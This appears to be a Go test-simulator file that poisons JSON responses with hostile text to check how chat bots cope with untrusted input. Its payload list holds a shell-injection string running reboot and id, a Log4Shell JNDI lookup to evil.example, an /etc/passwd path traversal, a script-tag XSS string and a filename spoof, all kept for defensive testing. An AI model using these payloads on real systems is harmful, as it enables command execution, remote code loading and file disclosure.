package simulator

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
)

// Hostile puts a stranger's text into string fields of answers.
type Hostile struct {
	Text string `json:"text"`
	// Fields are the names of the JSON keys concerned; empty is every string.
	Fields []string `json:"fields,omitempty"`
	// Endpoint limits it; empty is any.
	Endpoint string `json:"endpoint,omitempty"`
}

// Poison makes answers hostile until [Simulator.ClearFaults].
func (s *Simulator) Poison(h Hostile) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.hostile = append(s.hostile, h)
}

// Payloads returns texts that have broken chat bots: markup, mentions, control and invisible
// characters, shell and terminal sequences, and one of a megabyte.
func Payloads() []string {
	return []string{
		"@everyone @here <@1> <@&2> <#3>",
		"[free coins](https://evil.example) https://evil.example",
		"``` **bold** __under__ ~~gone~~ ||hidden|| `code` > quote\n# head",
		`<a href="https://evil.example">x</a></b><script>alert(1)</script>&amp;&lt;`,
		"*_[]()~`>#+-=|{}.!\\",
		"\x00\x07\x1b[2J\x1b]0;title\x07\r\n\t",
		"\u202egpj.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
		"-oProxyCommand=touch${IFS}/tmp/x;$(reboot)`id`|sh\n",
		"{{.Secret}} %s %d %n $HOME ${jndi:ldap://evil.example}",
		"../../../etc/passwd\x00.png",
		strings.Repeat("A\u0301😀", 1<<20/7),
	}
}

// poison returns the body with the texts in place.
func poison(body []byte, hostile []Hostile, endpoint string) []byte {
	for _, h := range hostile {
		if h.Endpoint != "" && h.Endpoint != endpoint {
			continue
		}
		d := json.NewDecoder(bytes.NewReader(body))
		d.UseNumber()
		var v any
		if d.Decode(&v) != nil {
			return body
		}
		body = encode(h.replace(v, ""))
	}
	return body
}

func (h *Hostile) replace(v any, field string) any {
	switch x := v.(type) {
	case map[string]any:
		for k := range x {
			x[k] = h.replace(x[k], k)
		}
	case []any:
		for i := range x {
			x[i] = h.replace(x[i], field)
		}
	case string:
		if len(h.Fields) == 0 || slices.Contains(h.Fields, field) {
			return h.Text
		}
	}
	return v
}
